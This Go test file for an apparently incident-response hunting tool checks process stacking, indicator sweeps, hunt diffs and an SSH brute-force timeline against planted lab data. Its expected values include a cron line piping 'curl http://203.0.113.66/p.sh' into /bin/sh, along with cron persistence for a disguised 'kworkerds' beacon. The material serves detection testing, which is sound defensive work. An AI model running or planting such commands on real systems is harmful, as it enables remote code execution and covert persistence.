package hunt_test

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/velocicompanion/velocicompanion/companion/hunt"
	"github.com/velocicompanion/velocicompanion/companion/hunt/indicator"
	"github.com/velocicompanion/velocicompanion/store"
	"github.com/velocicompanion/velocicompanion/store/memory"
	"github.com/velocicompanion/velocicompanion/store/postgres"
	"github.com/velocicompanion/velocicompanion/store/postgres/pgtest"
	"github.com/velocicompanion/velocicompanion/store/sqlite"
)

// onEveryStore runs a test once on each of the stores.
func onEveryStore(t *testing.T, test func(t *testing.T, stores store.Stores)) {
	t.Helper()
	for name, open := range map[string]func() store.Stores{
		"memory": memory.New,
		"sqlite": func() store.Stores {
			db, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "vc.db"), sqlite.Config{})
			require.NoError(t, err)
			t.Cleanup(func() { require.NoError(t, db.Close()) })
			_, err = db.Migrator().Up(t.Context())
			require.NoError(t, err)
			return db.Stores()
		},
		"postgres": func() store.Stores { return pgtest.Open(t, postgres.Config{}).Stores() },
	} {
		t.Run(name, func(t *testing.T) { test(t, open()) })
	}
}

// TestWhatWasPlantedInTheLabIsFound holds every question to what was counted in the rows of the lab by other means.
func TestWhatWasPlantedInTheLabIsFound(t *testing.T) {
	t.Parallel()
	onEveryStore(t, func(t *testing.T, stores store.Stores) {
		f := newFleetOn(t, stores, hunt.Config{}, "huntA-summary-json.zip", "huntC-summary-json.zip", "Collection-jump01.corp.example-2026-11-23T18_39_06Z.zip")
		f.requireRareBinary(t)
		f.requireBeacon(t)
		f.requireHuntsDiffer(t)
		f.requireBruteForce(t)
	})
}

// requireRareBinary stacks the names of processes of hunt A.
func (f *fleet) requireRareBinary(t *testing.T) {
	scope := f.scope()
	scope.Hunts = []string{huntA}
	stack, err := f.Stack(t.Context(), hunt.Stack{Scope: scope, Artifact: "Linux.Sys.Pslist", Fields: []string{"Name"}, Limit: 100})
	require.NoError(t, err)
	var got []string
	for _, v := range stack.Values {
		line := fmt.Sprintf("%s %d %d", strings.Trim(string(v.Values[0]), `"`), v.Hosts, v.Rows)
		if v.Hosts == 1 {
			line += " " + v.SampleHosts[0].Hostname
		}
		got = append(got, line)
	}
	assert.ElementsMatch(t, []string{
		"bash 1 1 jump01.corp.example", "kworkerds 1 1 web01.corp.example", "redis-server 1 1 db01.corp.example",
		"tcpdump 1 1 jump01.corp.example", "tmux: server 1 1 jump01.corp.example", "ssh 1 2 jump01.corp.example",
		"postgres 1 6 db01.corp.example", "python3 2 2", "tail 2 2", "nginx 2 6", "cron 4 4", "dbus-daemon 4 4", "rsyslogd 4 4",
		"systemd 4 4", "systemd-journald 4 4", "systemd-logind 4 4", "velociraptor 4 4", "sshd 4 8",
	}, got)
	for i, most := range []int64{1, 1, 1, 1, 1, 2, 6, 2, 2, 6} {
		assert.Equal(t, most, stack.Values[i].Rows, "the rarest first: %s", got[i])
	}
	assert.EqualValues(t, 4, stack.HostsWithArtifact)
	assert.EqualValues(t, 59, stack.Scanned.Rows)
	assert.True(t, stack.Complete)

	all, err := f.Search(t.Context(), hunt.Search{Scope: scope, Limit: 10_000})
	require.NoError(t, err)
	assert.EqualValues(t, 30+1873+30+41+62+59+100, len(all.Rows))
}

// requireBeacon finds the rare binary and where it calls, by pivots and by a sweep.
func (f *fleet) requireBeacon(t *testing.T) {
	const address = "203.0.113.66"
	want := map[string]map[string][]string{
		huntA: {
			beaconSHA256: {"web01 Linux.Search.FileFinder 1", "web01 Linux.Sys.Pslist 1"},
			address:      {"web01 Linux.Network.NetstatEnriched 1"},
		},
		huntC: {
			beaconSHA256: {"web02 Linux.Search.FileFinder 1", "web02 Linux.Sys.Pslist 1"},
			address:      {"web02 Linux.Network.NetstatEnriched 1", "db01 Linux.Sys.Crontab/CronTabs 1"},
		},
	}
	list, err := indicator.Read(strings.NewReader(beaconSHA256 + "\n203[.]0[.]113[.]66\n198.51.100.1\n"))
	require.NoError(t, err)
	for huntID, indicators := range want {
		scope := f.scope()
		scope.Hunts = []string{huntID}
		for value, places := range indicators {
			found, err := f.Pivot(t.Context(), hunt.Pivot{Scope: scope, Value: value})
			require.NoError(t, err)
			var got []string
			for _, h := range found.Hosts {
				for _, a := range h.Artifacts {
					got = append(got, placeLine(h.Host, a))
				}
			}
			assert.ElementsMatch(t, places, got, "%s in %s", value, huntID)
		}
		swept, err := f.Sweep(t.Context(), hunt.Sweep{Scope: scope, List: list})
		require.NoError(t, err)
		var got []string
		for _, h := range swept.Hits {
			got = append(got, placeLine(h.Host, h.Found))
		}
		assert.ElementsMatch(t, append(indicators[beaconSHA256], indicators[address]...), got, huntID)
		require.Len(t, swept.Missed, 1)
		assert.Equal(t, "198.51.100.1", swept.Missed[0].Text)
	}
}

func placeLine(h hunt.HostRef, f hunt.Found) string {
	name, _, _ := strings.Cut(h.Hostname, ".")
	return fmt.Sprintf("%s %s %d", name, f.Artifact, f.Rows)
}

// requireHuntsDiffer compares hunt A with hunt C.
func (f *fleet) requireHuntsDiffer(t *testing.T) {
	const beacon, cron = "/var/tmp/.cache/kworkerds", "/etc/cron.d/sysstat-sync | "
	for _, c := range []struct {
		artifact string
		key      []string
		want     map[string][]string
	}{
		{"Linux.Sys.Pslist", []string{"Name"}, map[string][]string{"jump01": {"- tcpdump"}, "web01": {"- kworkerds"}, "web02": {"+ kworkerds"}}},
		{"Linux.Sys.Pslist", []string{"Exe"}, map[string][]string{"jump01": {"- /usr/bin/tcpdump"}, "web01": {"- " + beacon}, "web02": {"+ " + beacon}}},
		{"Linux.Sys.Pslist", []string{"Hash.SHA256"}, map[string][]string{
			"jump01": {"- c97881e39b54571829ec22b98cfa9c2348c7449a92fd761ebee7826b47ef4616"},
			"web01":  {"- " + beaconSHA256}, "web02": {"+ " + beaconSHA256},
		}},
		{"Linux.Sys.Users", nil, map[string][]string{"web02": {"+ wwwsync | 1003"}}},
		{"Linux.Sys.Crontab/CronTabs", []string{"Path", "Event", "User", "Minute", "Command"}, map[string][]string{
			"db01":  {"+ /etc/cron.d/pg-archive | null | root | 17 | /usr/bin/curl -fsS http://203.0.113.66/p.sh | /bin/sh"},
			"web01": {"- " + cron + "@reboot | null | null | www-data " + beacon + " >/dev/null 2>&1 &", "- " + cron + "null | www-data | */2 | pgrep -x kworkerds >/dev/null || " + beacon + " >/dev/null 2>&1 &"},
			"web02": {"+ " + cron + "@reboot | null | null | root " + beacon + " >/dev/null 2>&1 &", "+ " + cron + "null | root | */2 | pgrep -x kworkerds >/dev/null || " + beacon + " >/dev/null 2>&1 &"},
		}},
		{"Linux.Search.FileFinder", nil, map[string][]string{
			"web01": {"- /var/tmp/.cache", "- " + beacon},
			"web02": {"+ /home/wwwsync", "+ /home/wwwsync/.bash_logout", "+ /home/wwwsync/.bashrc", "+ /home/wwwsync/.profile", "+ /var/tmp/.cache", "+ " + beacon},
		}},
		{"Linux.Network.NetstatEnriched", []string{"Status", "Raddr", "Rport", "ProcInfo.Name"}, map[string][]string{
			"web01": {"- ESTABLISHED | 203.0.113.66 | 4443 | kworkerds"}, "web02": {"+ ESTABLISHED | 203.0.113.66 | 4443 | kworkerds"},
		}},
	} {
		q := hunt.Diff{Scope: f.scope(), Artifact: c.artifact, Key: c.key, Before: hunt.Side{Hunt: huntA}, After: hunt.Side{Hunt: huntC}}
		d, err := f.Diff(t.Context(), q)
		require.NoError(t, err, c.artifact)
		assert.True(t, d.Complete)
		assert.Empty(t, d.WithoutBefore)
		assert.Empty(t, d.WithoutAfter)
		assert.Equal(t, c.want, lines(d), "%s %v", c.artifact, d.Key)
		assert.Positive(t, d.Scanned.Rows)
	}
}

// requireBruteForce reads the log of jump01, which has no years, in the timeline: passwords are tried, and one is right.
func (f *fleet) requireBruteForce(t *testing.T) {
	const log = "Linux.Syslog.SSHLogin"
	scope := f.scope()
	stack, err := f.Stack(t.Context(), hunt.Stack{Scope: scope, Artifact: log, Fields: []string{"IP", "Result", "Method"}, Limit: 100})
	require.NoError(t, err)
	var logins []string
	for _, v := range stack.Values {
		logins = append(logins, fmt.Sprintf("%s: %d", keyLine(v.Values), v.Rows))
	}
	assert.ElementsMatch(t, []string{
		"198.51.100.23 | Failed | password: 180", "198.51.100.99 | Failed | password: 12", "10.77.0.101 | Failed | password: 6",
		"10.77.0.102 | Accepted | publickey: 5", "10.77.0.31 | Accepted | publickey: 5", "10.77.0.41 | Accepted | publickey: 3",
		"10.77.0.101 | Accepted | publickey: 1", "198.51.100.23 | Accepted | password: 1",
	}, logins)

	scope.Artifacts, scope.Query = []string{log}, "IP: 198.51.100.23"
	scope.From, scope.To = time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC)
	q := hunt.Timeline{Scope: scope, HostID: f.host(t, "jump01").ID, Limit: 50}
	rows, last := pages(t, f, q)
	require.Len(t, rows, 181)
	assert.Zero(t, last.WithoutTime)
	for i, row := range rows {
		var login struct{ Time, Result, Method, AttemptedUser string }
		require.NoError(t, json.Unmarshal(row.Data, &login))
		assert.Equal(t, "2026"+login.Time[len("0000"):], row.Time.Format(time.RFC3339))
		assert.Equal(t, "password", login.Method)
		if i < 180 {
			assert.Equal(t, "Failed", login.Result)
			continue
		}
		assert.Equal(t, "Accepted", login.Result, "it gets in at the end")
		assert.Equal(t, "bob", login.AttemptedUser)
	}
}
